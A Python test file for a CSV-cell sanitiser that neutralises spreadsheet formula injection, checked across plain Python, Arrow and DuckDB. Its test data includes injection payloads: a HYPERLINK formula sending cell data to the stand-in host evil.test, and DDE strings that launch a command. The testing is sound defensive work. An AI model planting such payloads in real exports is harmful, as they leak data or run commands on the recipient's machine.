"""Cells of CSV that a spreadsheet takes for text."""

from __future__ import annotations

import duckdb
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lycosa._support.safe_text import cell, cell_in_sql
from lycosa.analysis.exports.csv_cells import cells
from seeds import examples

FORMULAS = {
    '=HYPERLINK("http://evil.test/?"&A1,"x")': '\'=HYPERLINK("http://evil.test/?"&A1,"x")',
    "+cmd|'/C calc'!A0": "'+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\ta": "'\ta",
    "\x00=1": "'\x00=1",
    "＝1+1": "'＝1+1",
    "  =1": "  '=1",
    '"=1': "\"'=1",
    "a;=1;@b": "a;'=1;'@b",
    "a\n=1": "a\n'=1",
    "+34 956 000 000": "'+34 956 000 000",
    "--": "'--",
}
PLAIN = ["", "a=b", "a+b", "x@y.test", "http://a.test/?a=1;b=2", "1", "-5", "+1.5e-3", "-.5", "-"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert cell(text) == FORMULAS[text]


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_other_texts_stay(text: str) -> None:
    assert cell(text) == text


@settings(max_examples=examples(60), deadline=None)
@given(st.lists(st.text("=+-@;\t\r\n\0 \"'a1.e＝é"), min_size=1, max_size=20))
def test_the_databases_do_the_same(texts: list[str]) -> None:
    expected = [cell(text) for text in texts]
    table = pa.table({"t": texts})
    (batch,) = table.to_batches()
    assert cells(batch).column("t").to_pylist() == expected
    with duckdb.connect() as connection:
        connection.register("given", table)
        found = connection.sql(f"select {cell_in_sql('t')} from given").fetchall()
    assert [row[0] for row in found] == expected


def test_what_is_missing_stays_missing() -> None:
    batch = pa.record_batch({"t": pa.array([None, "=1"]), "n": pa.array([-1, None])})
    assert cells(batch).to_pydict() == {"t": [None, "'=1"], "n": [-1, None]}
